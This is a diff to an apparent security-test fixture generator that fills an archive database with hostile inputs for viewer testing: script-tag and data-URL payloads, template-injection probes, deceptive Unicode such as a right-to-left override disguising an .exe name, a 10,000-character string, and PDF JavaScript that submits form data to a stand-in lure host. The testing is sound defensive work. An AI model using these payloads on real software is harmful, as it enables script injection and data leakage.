@@ -36,15 +36,9 @@ TEXTS = {
     "data": "data:text/html,<script>{run}</script>",
     "template": "{{{{ 7 * 7 }}}}{{% raw %}}${{7*7}}&lt;script&gt;{run}&lt;/script&gt;",
     "signs": "\u202etxt.exe\u2066\u2069\u200f \x00\x1b[31m\x07\ufeff\u2028 Z\u0351\u036b\u0343" + "\u0300" * 200,
-    "length": "A" * 1_000,
+    "length": "A" * 10_000,
 }
 """Name of a kind of attack -> the text that stands in every column of an archive."""
-
-LONGER = """
-update requests set title = :it where id = 1; update messages set text = :it where id = 2;
-update attachments set filename = :it where id = 1; update users set name = :it where id = 1
-"""
-"""Where the word of 10,000 letters stands. With one in every column Chromium lays out a thread for 17 s (November 2026)."""
 
 PDF_SCRIPT = "app.alert(1);this.submitForm('{lure}/pdf');app.launchURL('{lure}/pdf-launch')"
 
@@ -108,9 +102,6 @@ def attacked(base: Path, folder: Path, kind: str, lure: str) -> Path:
     types = db.execute("select id, media_type from files").fetchall()
     for statement in WRITTEN.split(";"):
         db.execute(statement, {"it": text(kind, lure), "pdf": SHA["answer.pdf"]})
-    if kind == "length":
-        for statement in LONGER.split(";"):
-            db.execute(statement, {"it": "A" * 10_000})
     db.executemany("update files set media_type = :type where id = :id", [{"id": row[0], "type": row[1]} for row in types])
     db.commit()
     db.close()
